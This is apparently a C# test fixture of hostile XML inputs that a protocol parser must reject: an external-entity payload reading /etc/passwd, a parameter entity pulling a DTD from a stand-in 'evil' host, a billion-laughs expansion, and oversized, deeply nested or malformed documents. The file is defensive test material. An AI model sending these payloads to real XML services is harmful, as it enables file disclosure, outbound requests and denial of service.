namespace Emx.Protocols.Tests;

/// <summary>Hostile and malformed documents every parser must refuse cheaply.</summary>
internal static class Hostile
{
    public const string ExternalEntity =
        "<?xml version=\"1.0\"?><!DOCTYPE request [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>" +
        "<request><appInfo><appID>&xxe;</appID><appCertificate>x</appCertificate></appInfo><logoutAll/></request>";

    public const string ExternalParameterEntity =
        "<?xml version=\"1.0\"?><!DOCTYPE request [<!ENTITY % remote SYSTEM \"http://203.0.113.1/evil.dtd\"> %remote;]><request/>";

    public const string BillionLaughs =
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol \"lol\">" +
        "<!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">" +
        "<!ENTITY lol2 \"&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;\">" +
        "<!ENTITY lol3 \"&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;\">" +
        "<!ENTITY lol4 \"&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;\">" +
        "<!ENTITY lol5 \"&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;\">" +
        "<!ENTITY lol6 \"&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;\">" +
        "<!ENTITY lol7 \"&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;\">" +
        "<!ENTITY lol8 \"&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;\">" +
        "<!ENTITY lol9 \"&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;\">]>" +
        "<query><appInfo><appID>&lol9;</appID><appCertificate>x</appCertificate></appInfo><checkUser><userID>a</userID></checkUser></query>";

    public const string NotXml = "this is not XML at all { \"json\": true }";

    public const string Truncated = "<request><appInfo><appID>a</appID>";

    /// <summary>A document nested <paramref name="depth"/> levels deep under the given root.</summary>
    public static string DeeplyNested(string root, int depth = 5_000) =>
        "<" + root + ">" + string.Concat(Enumerable.Repeat("<a>", depth)) + string.Concat(Enumerable.Repeat("</a>", depth)) + "</" + root + ">";

    /// <summary>A well-formed 10 MB document under the given root.</summary>
    public static string TenMegabytes(string root) =>
        "<" + root + "><x>" + new string('A', 10 * 1024 * 1024) + "</x></" + root + ">";

    /// <summary>Names of all hostile inputs, for theories (the documents themselves are too big to be test-case data).</summary>
    public static TheoryData<string> Names => new()
    {
        "external-entity",
        "external-parameter-entity",
        "billion-laughs",
        "not-xml",
        "truncated",
        "empty",
        "deeply-nested",
        "ten-megabytes",
    };

    /// <summary>The hostile document called <paramref name="name"/>, with <paramref name="root"/> as root where it matters.</summary>
    public static string Get(string name, string root) => name switch
    {
        "external-entity" => ExternalEntity,
        "external-parameter-entity" => ExternalParameterEntity,
        "billion-laughs" => BillionLaughs,
        "not-xml" => NotXml,
        "truncated" => Truncated,
        "empty" => string.Empty,
        "deeply-nested" => DeeplyNested(root),
        "ten-megabytes" => TenMegabytes(root),
        _ => throw new ArgumentOutOfRangeException(nameof(name), name, "Unknown hostile input."),
    };
}
